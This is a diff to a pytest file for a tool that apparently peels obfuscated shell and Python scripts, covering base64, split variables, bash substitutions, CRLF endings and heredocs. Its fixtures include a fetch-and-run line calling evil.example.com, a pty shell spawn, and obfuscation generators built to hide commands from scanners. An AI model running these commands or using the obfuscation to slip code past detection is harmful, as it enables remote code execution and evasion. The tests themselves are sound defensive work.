@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import codecs
 import gzip
+import time
 
 import pytest
 
@@ -19,7 +20,7 @@ from tests.unit.scripts.test_peelers_languages import (
     stack,
     stacks,
 )
-from wingman.core.scripts.peelers.shell_vars import substring
+from wingman.core.scripts.peelers.shell_vars import expand, substring
 from wingman.core.scripts.peelers.shell_words import ansi_c, literal_word, single_quote
 from wingman.core.scripts.types import Lang
 
@@ -65,13 +66,27 @@ def here_string(text: str) -> tuple[str, list[str]]:
     return f"bash <<< {single_quote(text)}", ["bash_eval"]
 
 
-def variables(text: str) -> tuple[str, list[str]]:
+def variables(text: str, name: str = "_v", newline: str = "\n") -> tuple[str, list[str]]:
     pieces = [text[index : index + 7] for index in range(0, len(text), 7)]
-    lines = [f"_v{index}={single_quote(piece)}" for index, piece in enumerate(pieces)]
+    lines = [f"{name}{index}={single_quote(piece)}" for index, piece in enumerate(pieces)]
     refs = "".join(
-        f"${{_v{index}}}" if index % 2 else f"$_v{index}" for index in range(len(pieces))
+        f"${{{name}{index}}}" if index % 2 else f"${name}{index}" for index in range(len(pieces))
     )
-    return "\n".join([*lines, f'eval "{refs}"']), ["bash_var_concat", "bash_eval"]
+    return newline.join([*lines, f'eval "{refs}"']), ["bash_var_concat", "bash_eval"]
+
+
+def variables_crlf(text: str) -> tuple[str, list[str]]:
+    """The same split into other variables, saved with Windows line ends."""
+    return variables(text, "_w", "\r\n")
+
+
+def pattern_substitution(text: str) -> tuple[str, list[str]]:
+    """Interleave junk and have bash strip it with ${name//junk/}."""
+    junk = "~^"
+    return f'_j={single_quote(junk.join(text))}\neval "${{_j//{junk}/}}"', [
+        "bash_var_concat",
+        "bash_eval",
+    ]
 
 
 def rot13(text: str) -> tuple[str, list[str]]:
@@ -90,6 +105,8 @@ OBFUSCATORS: dict[str, Obfuscator] = {
     "printf": printf,
     "eval": evaluate,
     "var_concat": variables,
+    "var_concat_crlf": variables_crlf,
+    "pattern_substitution": pattern_substitution,
     "tr": rot13,
     "xxd": hexdump,
     "base64_here": base64_here,
@@ -116,6 +133,7 @@ def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> No
         ("X=$(echo Y3VybCB4 | base64 -d); $X", "curl x"),
         ("echo Y3VybCB4 | openssl base64 -d | sh", "curl x"),
         ("echo Y3VybCB4 | base64 -d | cat | sh", "curl x"),
+        ("echo Y3VybCB4 | base64 -d | sh\r\necho ok\r\n", "curl x"),
         ("echo Y3Vy bCB4 | base64 -d", "curl x"),
     ],
 )
@@ -291,10 +309,16 @@ def test_literal_words(word: str, expected: str | None) -> None:
     ("text", "expected"),
     [
         ("a=cu; b=rl; $a$b x", "a=cu; b=rl; curl x"),
+        ("a=cu\r\nb=rl\r\n$a$b x\r\n", "a=cu\r\nb=rl\r\ncurl x\r\n"),
+        ("x=cXuXrXl; ${x//X/} y", "x=cXuXrXl; curl y"),
+        ('x=CURL; echo "${x,,}" | sh', 'x=CURL; echo "curl" | sh'),
+        ("x=__curl; y=wget.; ${x#__} ${y%.} | sh", "x=__curl; y=wget.; curl wget | sh"),
         ("a='cu'\nb=\"rl\"\nc=${a}${b}\n$c x", "a='cu'\nb=\"rl\"\nc=curl\ncurl x"),
         ('u="http://x y"; eval "curl $u"', 'u="http://x y"; eval "curl http://x y"'),
         ("s=abcdef; echo ${s:1:2} ${s: -2} ${s:2}", "s=abcdef; echo bc ef cdef"),
-        ('export a=cu\necho "$a\\$a"', 'export a=cu\necho "cu\\$a"'),
+        ('export a=cu\neval "$a\\$a"', 'export a=cu\neval "cu\\$a"'),
+        ("obj=/usr/bin/objdump\n$obj -R x", "obj=/usr/bin/objdump\n/usr/bin/objdump -R x"),
+        ('p=/usr/bin\nif x; then "$p/ls"; fi', 'p=/usr/bin\nif x; then "/usr/bin/ls"; fi'),
     ],
 )
 def test_variable_concatenation(text: str, expected: str) -> None:
@@ -314,10 +338,32 @@ def test_variable_concatenation(text: str, expected: str) -> None:
         "if x; then a=1; fi; echo $a",
         "a=1 cmd; echo $a",
         "a=1; a+=2; echo $a",
+        # Reading a variable into a message or a test builds no code.
+        'dir=/opt/app; echo "installing to $dir"; [ -d "$dir" ] || mkdir -p "$dir"',
     ],
 )
 def test_variable_concatenation_negative(text: str) -> None:
     assert rewrite("bash_var_concat", text) is None
+
+
+@pytest.mark.parametrize(
+    ("op", "arg", "expected"),
+    [
+        ("/", "a/b", "bac"),
+        ("//", "a/b", "bbc"),
+        ("//", "a", "c"),
+        ("#", "aa", "c"),
+        ("%", "c", "aa"),
+        ("^^", "", "AAC"),
+        ("^", "", "Aac"),
+        (",,", "", "aac"),
+        ("//", "a*/b", None),
+        ("/", "#a/b", None),
+        ("^^", "[a]", None),
+    ],
+)
+def test_expansions_follow_bash(op: str, arg: str, expected: str | None) -> None:
+    assert expand("aac", op, arg) == expected
 
 
 @pytest.mark.parametrize(
@@ -342,3 +388,79 @@ def test_curl_pipe_to_shell_hidden_three_ways() -> None:
     assert [layer.technique for layer in layers] == ["input", "bash_var_concat", "bash_base64_pipe"]
     assert layers[-1].content == "curl http://evil.example.com/x.sh | sh"
     assert URL not in text
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("python -c 'import os; os.system(\"id\")'", 'import os; os.system("id")'),
+        ('/usr/bin/python3 -u -c "print(1)" && echo ok', "print(1)"),
+        (
+            "sudo python2.7 -c 'import pty;pty.spawn(\"/bin/sh\")'",
+            'import pty;pty.spawn("/bin/sh")',
+        ),
+    ],
+)
+def test_python_c_becomes_a_python_layer(text: str, expected: str) -> None:
+    found = run("bash_python_c", text)
+    assert [(item.content, item.language) for item in found] == [(expected, Lang.PYTHON)]
+
+
+@pytest.mark.parametrize(
+    "text", ['python -c "$CODE"', "echo 'python -c \"print(1)\"'", "mypython -c 'x'"]
+)
+def test_python_c_needs_a_literal_command(text: str) -> None:
+    assert run("bash_python_c", text) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (
+            "python3 - <<'PY'\nimport os\nprint(os.getcwd())\nPY\necho done",
+            "import os\nprint(os.getcwd())",
+        ),
+        ("python <<EOF > out.txt\r\nprint(1)\r\nEOF\r\n", "print(1)"),
+        ("cat > /tmp/u.py <<-END\n\timport sys\n\tsys.exit(0)\n\tEND\n", "import sys\nsys.exit(0)"),
+        ('tee -a "$DIR/run.py" << "X"\nx = 1\nX', "x = 1"),
+    ],
+)
+def test_python_heredocs_become_python_layers(text: str, expected: str) -> None:
+    found = run("bash_heredoc_python", text)
+    assert [(item.content, item.language) for item in found] == [(expected, Lang.PYTHON)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "python - <<EOF\nprint(1)\n",  # never ends
+        "cat > notes.txt <<EOF\nimport os\nEOF",
+        "echo 'python - <<EOF'\nprint(1)\nEOF",
+        "bash <<EOF\nls\nEOF",
+    ],
+)
+def test_other_heredocs_are_left_alone(text: str) -> None:
+    assert run("bash_heredoc_python", text) == []
+
+
+def test_python_dropped_by_a_shell_script_is_peeled_as_python() -> None:
+    code = f"import os\nos.system('curl {URL} | sh')"
+    hidden = f"import base64\nexec(base64.b64decode('{b64(code)}'))"
+    text = f"cd /tmp\npython3 - <<'EOF'\n{hidden}\nEOF\nrm -f x"
+    layers, stopped = peel_all(text, Lang.BASH)
+    assert stopped is None
+    assert any(layer.language is Lang.PYTHON and URL in layer.content for layer in layers)
+    assert URL not in text
+
+
+def test_unterminated_heredocs_stay_cheap() -> None:
+    started = time.monotonic()
+    assert run("bash_heredoc_python", "python - <<EOF\n" * 20_000) == []
+    assert time.monotonic() - started < 1.0
+
+
+@pytest.mark.parametrize("name", ["bash_python_c", "bash_eval"])
+def test_repeated_options_stay_cheap(name: str) -> None:
+    started = time.monotonic()
+    assert run(name, "python sh " + "-c " * 60_000) == []
+    assert time.monotonic() - started < 1.0
